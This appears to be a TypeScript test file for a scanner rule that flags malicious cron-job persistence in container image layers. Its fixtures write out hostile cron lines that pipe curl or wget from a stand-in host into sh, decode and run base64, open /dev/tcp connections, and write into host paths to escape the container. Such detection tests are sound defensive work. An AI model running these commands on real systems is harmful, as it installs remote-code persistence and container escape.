import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
import { cron } from './index.ts';

const RULE = 'persistence/cron-job';

const DEBIAN = `# /etc/crontab: system-wide crontab
SHELL=/bin/sh
# Example of job definition: curl http://x.invalid | sh
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
`;

const cases = [
  { name: "Debian's own is nothing", files: { 'etc/crontab': DEBIAN }, expected: [] },
  {
    name: 'fetched and run',
    files: {
      'etc/crontab': `${DEBIAN}* * * * * root curl -s http://x.invalid/a | sh\n`,
      'var/spool/cron/crontabs/root': '*/5 * * * * wget -q -O /tmp/a http://x.invalid/a; sh /tmp/a\n',
      'etc/cron.d/x': '@reboot root bash -c "$(curl -fsSL https://x.invalid/a)"\n',
      'etc/periodic/15min/x': '#!/bin/sh\ncurl -s http://x.invalid/a | bash\n',
    },
    expected: [
      `block ${RULE} etc/cron.d/x`,
      `block ${RULE} etc/crontab`,
      `block ${RULE} etc/periodic/15min/x`,
      `block ${RULE} var/spool/cron/crontabs/root`,
    ],
  },
  {
    name: 'whatever the file begins with',
    files: {
      'etc/cron.d/x': `GIF8\0\0\0\n* * * * * root curl -s http://x.invalid/a | sh\n`,
      'etc/cron.d/y': `\x1f\x8b\0\n* * * * * root curl -s http://x.invalid/a | sh\n`,
    },
    expected: [`block ${RULE} etc/cron.d/x`, `block ${RULE} etc/cron.d/y`],
  },
  {
    name: 'decoded and run',
    files: { 'etc/crontabs/root': '* * * * * echo aW5lcnQ= | base64 -d | sh\n' },
    expected: [`block ${RULE} etc/crontabs/root`],
  },
  {
    name: '/dev/tcp',
    files: { 'etc/cron.d/x': '* * * * * root exec 3<>/dev/tcp/x.invalid/1\n' },
    expected: [`block ${RULE} etc/cron.d/x`],
  },
  {
    name: 'writing to the host',
    files: {
      'etc/cron.d/a': '* * * * * root echo x >> /host/etc/crontab\n',
      'etc/cron.d/b': '* * * * * root cp /opt/x /mnt/host/usr/bin/x\n',
      'etc/cron.d/c': '* * * * * root echo x | tee /proc/1/root/etc/x\n',
    },
    expected: [`block ${RULE} etc/cron.d/a`, `block ${RULE} etc/cron.d/b`, `block ${RULE} etc/cron.d/c`],
  },
  {
    name: 'a temporary or hidden program is for review',
    files: {
      'etc/cron.d/a': '* * * * * root /tmp/x\n',
      'etc/cron.d/b': '@reboot /usr/lib/.cache/x >/dev/null 2>&1\n',
      'var/spool/cron/root': '* * * * * /dev/shm/x\n',
    },
    expected: [
      `review ${RULE} etc/cron.d/a`,
      `review ${RULE} etc/cron.d/b`,
      `review ${RULE} var/spool/cron/root`,
    ],
  },
  {
    name: 'a ping is a note, to a bare address for review',
    files: {
      'etc/cron.d/a': '0 * * * * root curl -fsS https://ping.example/1 >/dev/null\n',
      'etc/cron.d/b': '0 * * * * root curl -fsS http://192.0.2.1/1 >/dev/null\n',
    },
    expected: [`note ${RULE} etc/cron.d/a`, `review ${RULE} etc/cron.d/b`],
  },
  {
    name: 'ordinary jobs are nothing',
    files: {
      'etc/cron.d/a':
        '0 3 * * * app /app/bin/backup > /var/log/backup.log 2>&1\n*/5 * * * * cp /etc/hosts /tmp/hosts\n',
      'etc/cron.daily/b': '#!/bin/sh\n[ -d /host ] || exit 0\nls /hosts > /dev/null\n',
    },
    expected: [],
  },
  {
    name: 'what a package ships unchanged is for a person to judge',
    files: {
      ...packageOf('listed', { 'etc/cron.daily/x': '#!/bin/sh\ncurl https://x.example/a | sh\n' }),
      'etc/cron.daily/x': '#!/bin/sh\ncurl https://x.example/a | sh\n',
    },
    expected: ['review persistence/cron-job etc/cron.daily/x'],
  },
];

for (const { name, files, expected } of cases) {
  test(`cron: ${name}`, () => {
    const { findings, problems } = inspectFixture({ layers: [files], catalogers: [listedPackages] }, [cron]);
    assert.deepEqual(summary(findings), expected);
    assert.deepEqual(problems, []);
  });
}

test('cron: says line and why, and sees what a later layer deletes', () => {
  const line = '* * * * * root curl -s http://x.invalid/a | sh';
  const layers = [{ 'etc/cron.d/x': `# x\n\n${line}\n` }, { 'etc/cron.d/x': null }];
  const [finding] = inspectFixture({ layers }, [cron]).findings;
  assert.equal(finding?.location.line, 3);
  assert.equal(finding?.evidence, `runs what it fetches: ${line}`);
  assert.equal(finding?.location.hidden?.by, 'deleted');
});
